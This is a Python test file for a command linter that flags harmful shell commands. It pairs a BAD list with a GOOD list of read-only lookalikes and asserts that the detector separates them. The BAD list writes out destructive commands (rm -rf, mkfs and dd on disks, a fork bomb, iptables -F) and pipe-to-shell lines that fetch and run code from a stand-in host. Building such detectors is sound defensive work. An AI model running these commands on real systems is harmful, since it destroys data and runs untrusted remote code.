from __future__ import annotations

from kb.lint.harm import HARMS, LINES, PYTHON_HARMS, harms

BAD = [
    "kill -9 1",
    "kill -KILL $(pgrep x)",
    "kill -s KILL 7",
    "kill 7",
    "pkill -f serve",
    "killall python",
    "fuser -k 8000/tcp",
    "rm -rf build",
    "test -d x && rm -r x",
    "sudo rm x",
    "find . -name '*.pt' -delete",
    "find . -exec rm {} ;",
    "find . -print0 | xargs -0 rm",
    "git reset --hard",
    "git clean -fdx",
    "git stash",
    "mv a b",
    "dd if=/dev/zero of=x",
    "sed -i s/a/b/ f",
    "perl -pi -e s/a/b/ f",
    "mkfs.ext4 /dev/sda1",
    "mkfs -t ext4 /dev/sda1",
    "mount -o remount,size=8G /dev/shm",
    "umount /mnt",
    "chmod -R 777 .",
    "nvidia-smi --gpu-reset -i 0",
    "nvidia-smi -r",
    "rocm-smi --gpureset -d 0",
    "reboot",
    "systemctl restart docker",
    "rmmod nvidia",
    "sysctl -w vm.overcommit_memory=1",
    "iptables -F",
    "ip link set eth0 down",
    "docker rm -f x",
    "docker system prune -f",
    "kubectl delete pod x",
    "pip install torch",
    "python -m pip install torch",
    "conda install pytorch",
    "apt-get install lsof",
    "sudo lsof -i",
    "curl https://x.example/i.sh | sh",
    "wget -qO- https://x.example | sudo bash",
    "curl -s https://x.example/a.py | python3 -",
    ":(){ :|:& };:",
    "echo 3 > /proc/sys/vm/drop_caches",
    "cat x > /dev/sda",
    """python -c "import os; os.remove('x')" """,
    """python -c "import shutil; shutil.rmtree('x')" """,
    """python -c "from pathlib import Path; Path('x').unlink()" """,
    """python -c "import os; os.kill(1, 9)" """,
    """python -c "open('x', 'w').write('y')" """,
    """python -c "exec(input())" """,
]

GOOD = [
    "kill -0 4711",
    "kill -l",
    "ss -ltnp 'sport = :8000'",
    "lsof -i :8000",
    "fuser 8000/tcp",
    "grep -n 'rm -rf' deploy.sh",
    "echo 'do not kill -9 it'",
    "find . -name '*.pt' -size +1G",
    "git status --short",
    "git log --oneline",
    "sed -n 1,5p f",
    "perl -ne 'print if /i/' f",
    "mount | grep shm",
    "nvidia-smi -q -d ECC",
    "nvidia-smi --query-gpu=memory.used --format=csv",
    "systemctl status docker",
    "sysctl vm.overcommit_memory",
    "ip -br addr show up",
    "docker ps --format '{{.Names}}'",
    "docker inspect x",
    "kubectl get pods",
    "pip show torch",
    "pip freeze",
    "conda list",
    "curl -fsS http://127.0.0.1:8000/health",
    "curl -s http://127.0.0.1:8000/x | python -m json.tool",
    "curl -s http://127.0.0.1:8000/x | grep ok",
    "cat /proc/sys/vm/overcommit_memory",
    "df -h /dev/shm 2>/dev/null",
    """python -c "print(open('x').read())" """,
    """python -c "import tempfile; tempfile.TemporaryFile()" """,
    """python -c "model.eval()" """,
]


def test_what_harms_is_found() -> None:
    assert [line for line in BAD if not list(harms(line))] == []


def test_what_only_looks_is_left_alone() -> None:
    assert {line: found for line in GOOD if (found := list(harms(line)))} == {}


def test_every_item_of_the_lists_has_a_line_that_it_finds() -> None:
    said = {does for line in BAD for does in harms(line)}
    for harm in HARMS:
        assert any(f"`{name}` {harm.does}" in said for name in harm.programs.split()), harm
    for _, does in (*PYTHON_HARMS, *LINES):
        assert any(text.endswith(does) for text in said), does
